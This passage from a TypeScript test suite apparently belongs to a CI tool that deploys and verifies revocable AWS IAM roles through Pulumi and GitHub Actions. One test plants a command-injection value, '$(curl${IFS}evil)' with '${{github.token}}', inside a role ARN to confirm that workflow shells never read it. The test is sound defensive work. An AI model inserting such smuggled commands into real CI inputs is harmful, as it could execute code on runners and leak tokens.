                        "FAIL dev-verify: Pulumi.dev-verify.yaml: the deploy of stack dev-verify runs in the GitHub environment dev-verify, which is the hourly check's of stack dev (<stack>-verify): that environment has no required reviewers and dev's deploy role trusts its OIDC sub, so a change merged to dev-verify would deploy with dev's deploy role past dev's reviewers; rename the stack",
                        FAILED(2),
                    ],
                    stderr: "",
                },
            );
            // A stack of another name passes, and so does one ending in -verify with no stack of that prefix.
            assert.deepStrictEqual(
                await run(base, { "Pulumi.staging.yaml": other(CI, "staging"), "Pulumi.canary-verify.yaml": other("", "canary") }),
                {
                    code: 0,
                    lines: [PASSED],
                    stderr: "",
                },
            );
        });

        it("lists every stack as changed when a program file whose name git quotes changes: ci stacks skipped them", async () => {
            // Before: git diff --name-only quoted the name ("components/\303\251vil.ts"), which is no program file to the
            // pattern, so the deploy's matrix left every stack out and nothing deployed the change.
            const root = repository({ "Pulumi.dev.yaml": dev(), "components/helper.ts": "export {};\n" });
            const deployed = git(root, "rev-parse", "HEAD").trim();
            commitFiles(root, { "components/\u00e9vil.ts": "export {};\n" }, "a program file with an accent");
            const bin = project({});
            fs.writeFileSync(
                path.join(bin, "pulumi"),
                `#!/bin/sh\ncase "$1 $2 $3" in "stack tag ls") echo '{"revocable-roles:deployed-commit":"${deployed}"}';; esac\nexit 0\n`,
                { mode: 0o755 },
            );
            const outputs = path.join(bin, "outputs");
            const [out, err] = [new Capture(), new Capture()];
            const variables = { ...process.env, PATH: `${bin}:${process.env.PATH}`, GITHUB_OUTPUT: outputs, GITHUB_EVENT_NAME: "push" };
            const code = await ci(["stacks", "--json"], out, err, environment({ root, now: NOW, variables }));
            assert.deepStrictEqual(
                { code, stacks: fs.readFileSync(outputs, "utf8") },
                { code: 0, stacks: `stacks=${JSON.stringify([{ stack: "dev", account: ACCOUNT, region: "eu-west-1" }])}\n` },
            );
        });

        it("puts stack names and role ARNs into the matrix as JSON only, and no workflow step's shell reads ${{ matrix.* }} or a step output", async () => {
            // Held: an IAM path may hold $, {, }, ( and quotes, and the ARN is valid, but it reaches the workflows only as a
            // JSON value in an output and as an action's input (role-to-assume), never as shell text.
            const odd = `arn:aws:iam::${ACCOUNT}:role/$(curl\${IFS}evil)/\${{github.token}}/ci-deploy`;
            const root = repository({ "Pulumi.dev.yaml": dev("", CI.replace(`arn:aws:iam::${ACCOUNT}:role/ci-deploy`, `'${odd}'`)) });
            const outputs = path.join(root, "outputs");
            const [out, err] = [new Capture(), new Capture()];
            const code = await ci(
                ["stacks", "--json", "--all", "--base", "HEAD"],
                out,
                err,
                environment({ root, now: NOW, variables: { ...process.env, GITHUB_OUTPUT: outputs } }),
            );
            assert.deepStrictEqual(
                { code, stderr: err.text, output: fs.readFileSync(outputs, "utf8") },
                {
                    code: 0,
                    stderr: "",
                    output: `stacks=${JSON.stringify([{ stack: "dev", account: ACCOUNT, region: "eu-west-1", previewRoleArn: `arn:aws:iam::${ACCOUNT}:role/ci-preview`, deployRoleArn: odd }])}\n`,
                },
            );
            const shells = [".github/workflows", "templates/workflows"].flatMap((folder) =>
                fs.readdirSync(path.join(PROJECT_ROOT, folder)).flatMap((name) => {
                    const workflow = YAML.parse(fs.readFileSync(path.join(PROJECT_ROOT, folder, name), "utf8")) as {
                        jobs: Record<string, { steps?: { run?: string }[] }>;
                    };
                    return Object.values(workflow.jobs).flatMap((job) =>
                        (job.steps ?? []).flatMap((step) => (step.run === undefined ? [] : [`${name}: ${step.run}`])),
                    );
                }),
            );
            assert.ok(shells.length > 10, String(shells.length));
            assert.deepStrictEqual(
                shells.filter((line) => line.includes("${{")),
                [],
            );
        });
    });

    describe("4. instance profiles, the revoked-until tag and verify's reading", () => {
        const cutoff = Cutoff.read(CUTOFF)!;
        const EARLY = "2000-01-01T00:00:00Z";
        const policy = (statement: Record<string, unknown>) => ({
            name: "RevokeOlderSessions",
            document: {
                Version: "2012-10-17",
                Statement: [{ Effect: "Deny", Action: "*", Resource: "*", ...statement }],
            } as PolicyDocument,
        });
        const before = (conditions: Record<string, unknown>) => policy({ Condition: { DateLessThan: conditions } });

        it("verify calls weakened a block that names aws:TokenIssueTime twice in two spellings: IAM requires both, so it denies only before the earlier", () => {
            // Before: the later key in the block overwrote the earlier, so a policy denying sessions issued before 2000 read live.
            assert.deepStrictEqual(
                [
                    judgeRolePolicies([before({ "AWS:TokenIssueTime": EARLY, "aws:TokenIssueTime": CUTOFF })], cutoff),
                    judgeRolePolicies([before({ "aws:TokenIssueTime": CUTOFF, "aws:tokenissuetime": EARLY })], cutoff),
                ],
                Array(2).fill({
                    state: "weakened",
                    detail: `RevokeOlderSessions: it denies only sessions issued before ${EARLY}, earlier than the cutoff ${CUTOFF}`,
                }),
            );
        });

        it("verify calls live only what denies everything to every older session: DateLessThanEquals, NotAction, IfExists, another condition, an operator in another case are weakened", () => {
            // Held: each of these denies less than a revocation (or is read otherwise), and an Allow beside the deny takes nothing away.
            const judged = (statement: Record<string, unknown>, more: Record<string, unknown>[] = []) => {
                const { name, document } = policy(statement);
                return judgeRolePolicies(
                    [{ name, document: { ...document, Statement: [...(document.Statement as object[]), ...more] } as PolicyDocument }],
                    cutoff,
                );
            };
            const at = { "aws:TokenIssueTime": CUTOFF };
            assert.deepStrictEqual(
                {
                    equals: judged({ Condition: { DateLessThanEquals: at } }).state,
                    notAction: judged({ Action: undefined, NotAction: "iam:*", Condition: { DateLessThan: at } }).state,
                    ifExists: judged({ Condition: { DateLessThanIfExists: at } }).state,
                    anotherKey: judged({ Condition: { DateLessThan: { ...at, "aws:CurrentTime": CUTOFF } } }).state,
                    anotherBlock: judged({ Condition: { DateLessThan: at, Bool: { "aws:ViaAWSService": "false" } } }).state,
                    operatorCase: judged({ Condition: { datelessthan: at } }).state,
                    narrowResource: judged({ Resource: "arn:aws:s3:::*", Condition: { DateLessThan: at } }).state,
                    keyInCapitals: judged({ Condition: { DateLessThan: { "AWS:TOKENISSUETIME": CUTOFF } } }).state,
                    allowBeside: judged({ Condition: { DateLessThan: at } }, [{ Effect: "Allow", Action: "*", Resource: "*" }]).state,
                    narrowBeside: judged({ Action: "s3:*", Condition: { DateLessThan: at } }, [
                        { Effect: "Deny", Action: "*", Resource: "*", Condition: { DateLessThan: at } },
                    ]).state,
                },
                {
                    equals: "weakened",
                    notAction: "weakened",
                    ifExists: "weakened",
                    anotherKey: "weakened",
                    anotherBlock: "weakened",
                    operatorCase: "weakened",
                    narrowResource: "weakened",
                    keyInCapitals: "live",
                    allowBeside: "live",
                    narrowBeside: "live",
                },
            );
        });

        it("fails an instance profile named like another stack's in the same account: the later stack's deploy would fail on it for good, and no later revocation of it could deploy", async () => {
            // Before: only names within one stack file were compared.
            const app = (profile: string) =>
                `config:\n  aws:region: eu-west-1\n  aws:allowedAccountIds: ["${ACCOUNT}"]\n  revocable-roles:roles:\n    app:\n      trust:\n        services: ["ec2.amazonaws.com"]\n      instanceProfile: ${profile}\n`;
            const base = { "Pulumi.dev.yaml": dev("      instanceProfile: true\n") };
            assert.deepStrictEqual(await run(base, { "Pulumi.app.yaml": app("VICTIM") }), {
                code: 1,
                lines: [
                    `FAIL app: role app: instance profile VICTIM is also declared by dev/victim in account ${ACCOUNT}; IAM instance profile names are unique per account regardless of case, so the deploy of one stack would fail on it, and no later revocation of that stack could deploy`,
                    FAILED(1),
                ],
                stderr: "",
            });
            // Another name passes.
            assert.deepStrictEqual(await run(base, { "Pulumi.app.yaml": app("app-servers") }), { code: 0, lines: [PASSED], stderr: "" });
        });

        it("fails an instance profile added to a revoked role: EC2 becomes a way to fresh sessions for whoever may pass it; a profile renamed or on another role passes", async () => {
            // Before: nothing compared a revoked role's instance profile. A new one never replaces the role (the plans agree).
            const base = { "Pulumi.dev.yaml": dev() };
            assert.deepStrictEqual(await run(base, { "Pulumi.dev.yaml": dev("      instanceProfile: true\n") }), {
                code: 1,
                lines: [
                    `FAIL dev: role victim: gets the instance profile victim while it is revoked (revoked before ${CUTOFF}, safe to remove after ${SAFE}): whoever may pass IAM role victim to EC2 and start an instance could then run one with it, whose sessions are issued after the cutoff, as through a widened trust; add it once the revocation is safe to remove`,
                    FAILED(1),
                ],
                stderr: "",
            });
            const profiled = { "Pulumi.dev.yaml": dev("      instanceProfile: true\n") };
            const elsewhere = `      trust:\n        services: ["ec2.amazonaws.com"]\n      instanceProfile: true\n`;
            assert.deepStrictEqual(
                [
                    await run(profiled, { "Pulumi.dev.yaml": dev("      instanceProfile: victim-servers\n") }),
                    await run(base, {
                        "Pulumi.dev.yaml": dev("", "", elsewhere).replace(
                            `    bystander:\n      trust:\n        accounts: ["${ACCOUNT}"]\n`,
                            "    bystander:\n",
                        ),
                    }),
                ],
                Array(2).fill({ code: 0, lines: [PASSED], stderr: "" }),
            );
        });

        it("refuses a role tag that a case-insensitive comparison reads as revocable-roles:revoked-until: a dotless ı, a long ſ, a Kelvin sign", async () => {
            // Before: only toLowerCase() was compared, so IAM could read the key as the component's own tag and refuse
            // (or overwrite) it when the role is revoked: the revocation's deploy would fail.
            const tagged = (key: string) => dev("", "", `      tags:\n        "${key}": x\n`);
            const refused = (key: string) =>
                `FAIL dev: Pulumi.dev.yaml: revocable-roles:roles.bystander.tags: "${key}" is set by the component while the role's revocation is in force (the organization's lock reads it); remove it`;
            const keys = [
                "revocable-roles:revoked-unt\u0131l",
                "revocable-role\u017F:revoked-until",
                "revocable-roles:revo\u212Aed-until",
                "REVOCABLE-ROLES:REVOKED-UNTİL",
            ];
            const verdicts = [];
            for (const key of keys) verdicts.push((await run({ "Pulumi.dev.yaml": dev() }, { "Pulumi.dev.yaml": tagged(key) })).lines);
            assert.deepStrictEqual(
                verdicts,
                keys.map((key) => [refused(key), FAILED(1)]),
            );
            assert.deepStrictEqual(await run({ "Pulumi.dev.yaml": dev() }, { "Pulumi.dev.yaml": tagged("revocable-roles:owner") }), {
                code: 0,
                lines: [PASSED],
                stderr: "",
            });
        });
    });
});
